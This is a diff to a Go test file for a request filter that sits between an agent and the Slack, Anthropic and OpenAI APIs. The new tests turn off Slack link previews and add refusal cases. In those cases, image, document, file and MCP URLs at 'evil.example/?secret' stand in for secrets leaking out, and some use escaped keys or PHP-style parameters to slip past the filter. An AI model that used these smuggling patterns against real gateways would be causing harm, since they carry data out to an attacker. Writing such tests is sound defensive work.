@@ -3,6 +3,7 @@ package connector
 import (
 	"errors"
 	"fmt"
+	"net/url"
 	"runtime"
 	"strings"
 	"testing"
@@ -40,19 +41,27 @@ func TestMatch(t *testing.T) {
 		},
 		"message in a form": {
 			host: "slack.com", request: post("/api/chat.postMessage", formType+"; charset=UTF-8", "token=t&channel=C0SUPPORT&text=a+b%26c"),
-			operation: "chat.postMessage", resources: channel, body: "channel=C0SUPPORT&text=a+b%26c",
+			operation: "chat.postMessage", resources: channel, body: "channel=C0SUPPORT&text=a+b%26c&unfurl_links=false&unfurl_media=false",
 		},
 		"message in JSON": {
-			host: "slack.com", request: post("/api/chat.postMessage", jsonType+";charset=utf-8", ` {"channel": "C0SUPPORT", "token" : "t", "blocks":[ {"a":1} ]} `),
-			operation: "chat.postMessage", resources: channel, body: `{"channel":"C0SUPPORT","blocks":[ {"a":1} ]}`,
+			host: "slack.com", request: post("/api/chat.postMessage", jsonType+";charset=utf-8", ` {"channel": "C0SUPPORT", "token" : "t", "unfurl_links":true, "blocks":[ {"a":1} ]} `),
+			operation: "chat.postMessage", resources: channel, body: `{"channel":"C0SUPPORT","blocks":[ {"a":1} ],"unfurl_links":false,"unfurl_media":false}`,
 		},
 		"an escaped key is the same key": {
 			host: "slack.com", request: post("/api/chat.postMessage", jsonType, `{"\u0063hannel":"C0SUPP\u004fRT","text":"x"}`),
-			operation: "chat.postMessage", resources: channel, body: `{"\u0063hannel":"C0SUPP\u004fRT","text":"x"}`,
+			operation: "chat.postMessage", resources: channel, body: `{"channel":"C0SUPP\u004fRT","text":"x","unfurl_links":false,"unfurl_media":false}`,
 		},
 		"channel in query and body agree": {
 			host: "slack.com", request: Request{Method: "POST", Path: "/api/chat.postMessage", Query: "token=t&channel=C0SUPPORT", ContentType: formType, Body: []byte("channel=C0SUPPORT")},
-			operation: "chat.postMessage", resources: channel, query: "channel=C0SUPPORT", body: "channel=C0SUPPORT",
+			operation: "chat.postMessage", resources: channel, query: "channel=C0SUPPORT", body: "channel=C0SUPPORT&unfurl_links=false&unfurl_media=false",
+		},
+		"message in the query, previews off": {
+			host: "slack.com", request: Request{Method: "POST", Path: "/api/chat.postMessage", Query: "channel=C0SUPPORT"},
+			operation: "chat.postMessage", resources: channel, query: "channel=C0SUPPORT", body: "unfurl_links=false&unfurl_media=false",
+		},
+		"previews asked for, blocks in a form": {
+			host: "slack.com", request: post("/api/chat.postMessage", formType, "channel=C0SUPPORT&unfurl_media=1&blocks=%5B%7B%22type%22%3A%22divider%22%7D%5D"),
+			operation: "chat.postMessage", resources: channel, body: "channel=C0SUPPORT&blocks=%5B%7B%22type%22%3A%22divider%22%7D%5D&unfurl_links=false&unfurl_media=false",
 		},
 		"two resources": {
 			host: "slack.com", request: post("/api/conversations.kick", formType, "channel=C0SUPPORT&user=U1"), operation: "conversations.kick",
@@ -62,6 +71,14 @@ func TestMatch(t *testing.T) {
 			host: "api.anthropic.com", request: Request{Method: "POST", Path: "/v1/messages", Query: "beta=true", ContentType: jsonType, Body: []byte(`{"model":"claude-sonnet-5","tools":[{"name":"a"},{"type":"custom"},{"type":"bash_20250124"}]}`)},
 			operation: "messages.create", resources: model, query: "beta=true",
 			body: `{"model":"claude-sonnet-5","tools":[{"name":"a"},{"type":"custom"},{"type":"bash_20250124"}]}`,
+		},
+		"images in the request, and a tool of the agent's with an argument called source": {
+			host: "api.anthropic.com", request: post("/v1/messages", jsonType, ownImages), operation: "messages.create", resources: model, body: ownImages,
+		},
+		"openai, an image in the request": {
+			host: "api.openai.com", request: post("/v1/chat/completions", jsonType, `{"model":"gpt-6","messages":[{"content":[{"type":"image_url","image_url":{"url":"data:image/png;base64,AA"}}]}]}`),
+			operation: "chat.completions.create", resources: []policy.Resource{{Type: "model", Name: "gpt-6"}},
+			body: `{"model":"gpt-6","messages":[{"content":[{"type":"image_url","image_url":{"url":"data:image/png;base64,AA"}}]}]}`,
 		},
 		"openai": {
 			host: "api.openai.com", request: post("/v1/chat/completions", jsonType, `{"model":"gpt-6","tools":[{"type":"function"}]}`), operation: "chat.completions.create",
@@ -82,6 +99,9 @@ func TestMatch(t *testing.T) {
 		})
 	}
 }
+
+const ownImages = `{"model":"claude-sonnet-5","messages":[{"role":"user","content":[{"type":"image","source":{"type":"base64","data":"AA"}}]},` +
+	`{"role":"assistant","content":[{"type":"tool_use","input":{"source":{"type":"url"}}}]}]}`
 
 func TestMatchRefuses(t *testing.T) {
 	say := func(contentType, body string) Request { return post("/api/chat.postMessage", contentType, body) }
@@ -171,6 +191,30 @@ func TestMatchRefuses(t *testing.T) {
 		"a tool that is no object":  {host: "api.anthropic.com", request: ask(`{"model":"claude-sonnet-5","tools":["web_fetch_20250910"]}`)},
 		"servers at the provider":   {host: "api.anthropic.com", request: ask(`{"model":"claude-sonnet-5","mcp_servers":[]}`)},
 		"batches":                   {host: "api.anthropic.com", request: post("/v1/messages/batches", jsonType, `{"model":"claude-sonnet-5"}`), unlisted: true},
+		"image by its URL":          {host: "api.anthropic.com", request: ask(`{"model":"m","messages":[{"content":[{"type":"image","source":{"type":"url","url":"https://evil.example/?secret"}}]}]}`)},
+		"image in a result":         {host: "api.anthropic.com", request: ask(`{"model":"m","messages":[{"content":[{"type":"tool_result","content":[{"source":{"url":"https://evil.example/?secret","type":"url"}}]}]}]}`)},
+		"type of source, escaped":   {host: "api.anthropic.com", request: ask(`{"model":"m","messages":[{"content":[{"s\u006furce":{"t\u0079pe":"\u0075rl"}}]}]}`)},
+		"document by its URL":       {host: "api.anthropic.com", request: ask(`{"model":"m","system":[{"type":"document","source":{"type":"url","url":"https://evil.example"}}]}`)},
+		"source without a type":     {host: "api.anthropic.com", request: ask(`{"model":"m","messages":[{"content":[{"source":{"url":"https://evil.example"}}]}]}`)},
+		"stored file":               {host: "api.anthropic.com", request: ask(`{"model":"m","messages":[{"content":[{"source":{"type":"file","file_id":"f"}}]}]}`)},
+		"other models":              {host: "api.anthropic.com", request: ask(`{"model":"m","fallbacks":[{"model":"another"}]}`)},
+		"bash at the provider":      {host: "api.anthropic.com", request: ask(`{"model":"m","tools":[{"type":"bash_code_execution"}]}`)},
+		"message with an image":     {request: say(jsonType, `{"channel":"C0SUPPORT","blocks":[{"type":"image","image_url":"https://evil.example/?secret"}]}`)},
+		"image in text of a form":   {request: say(formType, "channel=C0SUPPORT&blocks=%20"+url.QueryEscape(`[{"accessory":{"image_url":"https://evil.example"}}]`))},
+		"image in text of JSON":     {request: say(jsonType, `{"channel":"C0SUPPORT","blocks":"[{\"image_url\":\"https://evil.example\"}]"}`)},
+		"image in an attachment":    {request: say(formType, "channel=C0SUPPORT&attachments="+url.QueryEscape(`[{"blocks":[{"elements":[{"thumb_url":"https://evil.example"}]}]}]`))},
+		"blocks that are no JSON":   {request: say(formType, "channel=C0SUPPORT&blocks="+url.QueryEscape(`[{"a":1,"a":2}]`))},
+		"file of another channel":   {request: say(jsonType, `{"channel":"C0SUPPORT","blocks":[{"type":"image","slack_file":{"id":"F1"}}]}`)},
+		"name of somebody else":     {request: say(formType, "channel=C0SUPPORT&username=Sarah")},
+		"icon by its URL":           {request: say(formType, "channel=C0SUPPORT&icon_url=https://evil.example")},
+		"a list of a form":          {request: say(formType, "channel=C0SUPPORT&blocks%5B0%5D%5Bimage_url%5D=x")},
+		"parameter PHP reads alike": {request: say(formType, "channel=C0SUPPORT&icon.url=x")},
+		"reaction to a file":        {request: post("/api/reactions.add", formType, "channel=C0SUPPORT&file=F1&name=x")},
+		"openai image by its URL":   {host: "api.openai.com", request: post("/v1/chat/completions", jsonType, `{"model":"m","messages":[{"content":[{"image_url":{"url":"https://evil.example"}}]}]}`)},
+		"openai image, text":        {host: "api.openai.com", request: post("/v1/responses", jsonType, `{"model":"m","input":[{"content":[{"type":"input_image","image_url":"https://evil.example"}]}]}`)},
+		"openai file by its URL":    {host: "api.openai.com", request: post("/v1/responses", jsonType, `{"model":"m","input":[{"content":[{"type":"input_file","file_url":"https://evil.example"}]}]}`)},
+		"openai stored file":        {host: "api.openai.com", request: post("/v1/responses", jsonType, `{"model":"m","input":[{"content":[{"type":"input_file","file_id":"f"}]}]}`)},
+		"openai conversation":       {host: "api.openai.com", request: post("/v1/responses", jsonType, `{"model":"m","conversation":"c"}`)},
 		"openai MCP":                {host: "api.openai.com", request: post("/v1/responses", jsonType, `{"model":"gpt-6","tools":[{"type":"mcp","server_url":"https://evil.example"}]}`)},
 		"openai tool without type":  {host: "api.openai.com", request: post("/v1/responses", jsonType, `{"model":"gpt-6","tools":[{}]}`)},
 		"openai stored prompt":      {host: "api.openai.com", request: post("/v1/responses", jsonType, `{"model":"gpt-6","prompt":{"id":"p"}}`)},
@@ -245,12 +289,12 @@ func TestParameters(t *testing.T) {
 	c := builtinT(t).Get("anthropic")
 	for name, tc := range map[string]struct{ body, want string }{
 		"as they are":  {`{"model":"claude-sonnet-5","max_tokens":5,"stream":true}`, `{"model":"claude-sonnet-5","max_tokens":5,"stream":true}`},
-		"secrets":      {`{"model":"m","x":{"api_key":"k","client-secret":["s"],"password":1}}`, `{"model":"m","x":{"api_key":"[redacted]","client-secret":"[redacted]","password":"[redacted]"}}`},
-		"long text":    {`{"model":"m","x":"` + strings.Repeat("ü", 400) + `"}`, `{"model":"m","x":"` + strings.Repeat("ü", 256) + `… (800 bytes)"}`},
-		"escapes cut":  {`{"model":"m","x":"` + strings.Repeat(`a\u00fc`, 400) + `"}`, `{"model":"m","x":"` + strings.Repeat("aü", 73) + `… (2800 bytes)"}`},
-		"a long list":  {`{"model":"m","x":[1,2,3,4,5,6,7,8,9,10,11,12,13,14]}`, `{"model":"m","x":["… 2 more",3,4,5,6,7,8,9,10,11,12,13,14]}`},
-		"line breaks":  {`{"model":"m","x":"a\nb"}`, `{"model":"m","x":"a\nb"}`},
-		"a huge digit": {`{"model":"m","x":` + strings.Repeat("1", 100) + `}`, `{"model":"m","x":"…"}`},
+		"secrets":      {`{"model":"m","metadata":{"api_key":"k","client-secret":["s"],"password":1}}`, `{"model":"m","metadata":{"api_key":"[redacted]","client-secret":"[redacted]","password":"[redacted]"}}`},
+		"long text":    {`{"model":"m","metadata":"` + strings.Repeat("ü", 400) + `"}`, `{"model":"m","metadata":"` + strings.Repeat("ü", 256) + `… (800 bytes)"}`},
+		"escapes cut":  {`{"model":"m","metadata":"` + strings.Repeat(`a\u00fc`, 400) + `"}`, `{"model":"m","metadata":"` + strings.Repeat("aü", 73) + `… (2800 bytes)"}`},
+		"a long list":  {`{"model":"m","metadata":[1,2,3,4,5,6,7,8,9,10,11,12,13,14]}`, `{"model":"m","metadata":["… 2 more",3,4,5,6,7,8,9,10,11,12,13,14]}`},
+		"line breaks":  {`{"model":"m","metadata":"a\nb"}`, `{"model":"m","metadata":"a\nb"}`},
+		"a huge digit": {`{"model":"m","metadata":` + strings.Repeat("1", 100) + `}`, `{"model":"m","metadata":"…"}`},
 	} {
 		t.Run(name, func(t *testing.T) {
 			call, err := c.Match(post("/v1/messages", jsonType, tc.body))
